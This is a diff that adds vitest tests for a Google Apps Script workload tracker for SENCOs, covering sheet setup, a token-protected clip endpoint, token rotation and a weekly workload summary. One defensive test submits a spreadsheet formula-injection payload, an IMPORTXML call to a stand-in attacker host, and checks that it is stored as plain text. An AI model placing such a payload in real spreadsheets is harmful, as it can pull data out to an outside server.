@@ -1,0 +1,174 @@
+// The workload tracker in the BUILT bundle: setup and repair, the clip endpoint, tokens, and the Workload tab.
+import { execFileSync } from 'node:child_process';
+import { existsSync } from 'node:fs';
+import { beforeAll, describe, expect, it } from 'vitest';
+import { TASKS_HEADER } from '../../shared/tracker/trackerLayout';
+import { createEmulator, loadBundle, postEvent, webAppResponse, type App, type Emulator } from '../emulator';
+import { sampleClip } from './sampleClip';
+
+const CODE = 'dist/apps-script/Code.js';
+beforeAll(() => {
+  if (!existsSync(CODE)) execFileSync(process.execPath, ['scripts/build.mjs', 'apps-script']);
+});
+
+function tracker() {
+  const emulator = createEmulator({ spreadsheet: { name: 'Tracker', sheets: [{ name: 'Sheet1', values: [[]] }] } });
+  const app = loadBundle(emulator, CODE);
+  app.call('onOpen', { authMode: 'NONE' });
+  app.clickMenuItem('Set up workload tracker');
+  const token = (app.call('getClipSettings') as { token: string }).token;
+  return { emulator, app, token };
+}
+
+function post(app: App, body: string) {
+  const reply = webAppResponse(app.call('doPost', postEvent({ body })));
+  expect(reply.status).toBe(200);
+  expect(reply.contentType).toBe('application/json');
+  return JSON.parse(reply.body);
+}
+const tasks = (emulator: Emulator) => emulator.spreadsheet.getSheetByName('Tasks')!.getDataRange().getValues();
+
+describe('Set up workload tracker', () => {
+  it('creates Tasks, Workload and Settings with the header, dropdowns and date formats', () => {
+    const { emulator } = tracker();
+    expect(emulator.spreadsheet.getSheets().map((s) => s.getName())).toEqual(['Sheet1', 'Tasks', 'Settings', 'Workload']);
+    const sheet = emulator.spreadsheet.getSheetByName('Tasks')!;
+    expect(sheet.getRange(1, 1, 1, 16).getValues()[0]).toEqual([...TASKS_HEADER]);
+    expect(sheet.getRange(2, 7).getDataValidation()!.spec).toMatchObject({ criteria: 'VALUE_IN_LIST', values: [expect.arrayContaining(['Annual review', 'Advice contribution', 'Other']), true] });
+    expect(sheet.getRange(2, 14).getDataValidation()!.spec).toMatchObject({ values: [['Open', 'In progress', 'Waiting for others', 'Done'], true] });
+    expect(sheet.getRange(2, 11).getNumberFormat()).toBe('dd/mm/yyyy');
+    expect(emulator.spreadsheet.getSheetByName('Settings')!.getRange(2, 1, 1, 2).getValues()).toEqual([['Needs assessment request', 240]]);
+  });
+
+  it('repairs a damaged header without duplicating tabs or touching tasks', () => {
+    const { emulator, app, token } = tracker();
+    post(app, JSON.stringify({ token, clip: sampleClip() }));
+    const sheet = emulator.spreadsheet.getSheetByName('Tasks')!;
+    sheet.getRange(1, 3).setValue('Who');
+    const message = app.clickMenuItem('Set up workload tracker');
+    expect(message).toBe('The Tasks header had changed and has been put back; no task was changed. The Workload tab is up to date.');
+    expect(emulator.spreadsheet.getSheets().map((s) => s.getName())).toEqual(['Sheet1', 'Tasks', 'Settings', 'Workload']);
+    expect(sheet.getRange(1, 3).getValue()).toBe('SENCO');
+    expect(tasks(emulator)).toHaveLength(2);
+  });
+});
+
+describe('doPost, the clip endpoint', () => {
+  it('appends one row with real date cells and answers its row number', () => {
+    const { emulator, app, token } = tracker();
+    const clip = sampleClip();
+    expect(post(app, JSON.stringify({ token, clip }))).toEqual({ ok: true, row: 2, duplicate: false });
+    const row = tasks(emulator)[1];
+    expect(row[0]).toBe(clip.id);
+    expect(Object.prototype.toString.call(row[1])).toBe('[object Date]');
+    expect((row[1] as Date).toISOString()).toBe('2026-03-02T09:15:00.000Z');
+    expect(row.slice(2, 8)).toEqual(['Ms A. Khan', 'Oak Primary', 'Anyshire', 'J.S.', 'Annual review', 'Annual review: advice for J.S.']);
+    expect(row[12]).toBe(120);
+    expect(row[13]).toBe('Open');
+  });
+
+  it('answers duplicate for a clip id it already has, without a second row', () => {
+    const { emulator, app, token } = tracker();
+    const body = JSON.stringify({ token, clip: sampleClip() });
+    post(app, body);
+    expect(post(app, body)).toEqual({ ok: true, row: 2, duplicate: true });
+    expect(tasks(emulator)).toHaveLength(2);
+  });
+
+  it('fills in the estimate from the Settings tab when the clip has none', () => {
+    const { emulator, app, token } = tracker();
+    emulator.spreadsheet.getSheetByName('Settings')!.getRange(2, 2).setValue(500);
+    post(app, JSON.stringify({ token, clip: sampleClip({ taskType: 'needs-assessment-request', estimatedMinutes: undefined }) }));
+    expect(tasks(emulator)[1][12]).toBe(500);
+  });
+
+  it('stores text that looks like a formula as text', () => {
+    const { emulator, app, token } = tracker();
+    post(app, JSON.stringify({ token, clip: sampleClip({ title: '=IMPORTXML("http://evil.example","//a")', details: '+44 7700 900123', school: '@school', la: '-Anyshire' }) }));
+    const sheet = emulator.spreadsheet.getSheetByName('Tasks')!;
+    expect(sheet.getRange(2, 8).getFormula()).toBe('');
+    expect(tasks(emulator)[1].slice(3, 9)).toEqual(['@school', '-Anyshire', 'J.S.', 'Annual review', '=IMPORTXML("http://evil.example","//a")', '+44 7700 900123']);
+  });
+
+  it('cuts a field longer than a cell holds, saying so', () => {
+    const { emulator, app, token } = tracker();
+    const reply = post(app, JSON.stringify({ token, clip: sampleClip({ details: 'x'.repeat(60_000) }) }));
+    expect(reply.ok).toBe(true);
+    const details = String(tasks(emulator)[1][8]);
+    expect(details).toHaveLength(50_000);
+    expect(details.endsWith('[cut by SENCO Time: the original had 60,000 characters]')).toBe(true);
+  });
+
+  it.each([
+    ['an empty body', () => '', 'bad-request', 'The request was empty: send the clip as JSON in the body.'],
+    ['malformed JSON', () => '{"token": ', 'bad-request', 'The request was not valid JSON.'],
+    ['a wrong token', () => JSON.stringify({ token: 'nope', clip: sampleClip() }), 'bad-token', /^The tracker did not accept this token/],
+    ['no token', () => JSON.stringify({ clip: sampleClip() }), 'bad-token', /^The tracker did not accept this token/],
+    ['a body over 100 KB', (token: string) => JSON.stringify({ token, clip: sampleClip({ details: 'y'.repeat(101 * 1024) }) }), 'too-large', /^The clip is too large \(\d{3} KB; the limit is 100 KB\): shorten the details and send it again\.$/],
+    ['an unknown task type', (token: string) => JSON.stringify({ token, clip: sampleClip({ taskType: 'coffee' }) }), 'invalid-clip', /^The clip could not be saved: taskType: /],
+    ['a full pupil name', (token: string) => JSON.stringify({ token, clip: sampleClip({ pupil: 'Jamie Smith' }) }), 'invalid-clip', "The clip could not be saved: pupil: the pupil's initials only, such as J.S.."],
+    ['a clip id that is not a UUID', (token: string) => JSON.stringify({ token, clip: sampleClip({ id: '42' }) }), 'invalid-clip', /^The clip could not be saved: id: /],
+  ])('refuses %s with one sentence and writes nothing', (_name, body, code, message) => {
+    const { emulator, app, token } = tracker();
+    const reply = post(app, body(token));
+    expect(reply.ok).toBe(false);
+    expect(reply.error.code).toBe(code);
+    expect(reply.error.message).toMatch(message);
+    expect(JSON.stringify(reply)).not.toMatch(/at .*\.js:\d+|Error:/);
+    expect(tasks(emulator)).toHaveLength(1);
+  });
+
+  it('answers busy while another execution holds the lock, and saves once it is free', () => {
+    const { emulator, app, token } = tracker();
+    emulator.locks.hold('script', { releaseAfterMs: 60_000 });
+    const body = JSON.stringify({ token, clip: sampleClip() });
+    expect(post(app, body).error.code).toBe('busy');
+    emulator.advanceTime(61_000);
+    expect(post(app, body)).toMatchObject({ ok: true, duplicate: false });
+  });
+
+  it('answers no-tracker when the Tasks tab was deleted', () => {
+    const { emulator, app, token } = tracker();
+    emulator.spreadsheet.deleteSheet(emulator.spreadsheet.getSheetByName('Tasks')!);
+    expect(post(app, JSON.stringify({ token, clip: sampleClip() })).error.code).toBe('no-tracker');
+  });
+});
+
+describe('tokens', () => {
+  it('stops the old token working at once when rotated', () => {
+    const { app, token } = tracker();
+    const fresh = (app.call('rotateTrackerToken') as { token: string }).token;
+    expect(fresh).not.toBe(token);
+    expect(fresh).toMatch(/^[0-9a-f]{64}$/);
+    expect(post(app, JSON.stringify({ token, clip: sampleClip() })).error.code).toBe('bad-token');
+    expect(post(app, JSON.stringify({ token: fresh, clip: sampleClip() })).ok).toBe(true);
+  });
+  it('shows the token and deployment steps in the Clip settings dialog', () => {
+    const { emulator, app } = tracker();
+    app.clickMenuItem('Clip settings…');
+    expect(emulator.ui.dialogs).toHaveLength(1);
+    expect(emulator.ui.dialogs[0].title).toBe('Clip settings');
+  });
+});
+
+describe('doGet, the health check', () => {
+  it('says whether the tracker is set up, without a token and without any data', () => {
+    const { app } = tracker();
+    const reply = webAppResponse(app.call('doGet', {}));
+    expect(JSON.parse(reply.body)).toEqual({ ok: true, app: 'senco-time-tracker', protocol: 1, tracker: true, message: 'The workload tracker is ready to receive clips.' });
+  });
+});
+
+describe('the Workload tab', () => {
+  it('is refreshed after each clip', () => {
+    const { emulator, app, token } = tracker();
+    post(app, JSON.stringify({ token, clip: sampleClip({ taskType: 'advice', estimatedMinutes: 90 }) }));
+    const values = emulator.spreadsheet.getSheetByName('Workload')!.getDataRange().getValues();
+    const head = values.findIndex((r) => r[0] === 'Week');
+    const week = values[head + 1];
+    // 2 March 2026 is a Monday in ISO week 10 (Python: date(2026, 3, 2).isocalendar())
+    expect(week[0]).toBe('2026-W10 (from 2026-03-02)');
+    expect(week[values[head].indexOf('Advice contribution')]).toBe(90);
+    expect(week[values[head].indexOf('Total hours')]).toBe(1.5);
+  });
+});
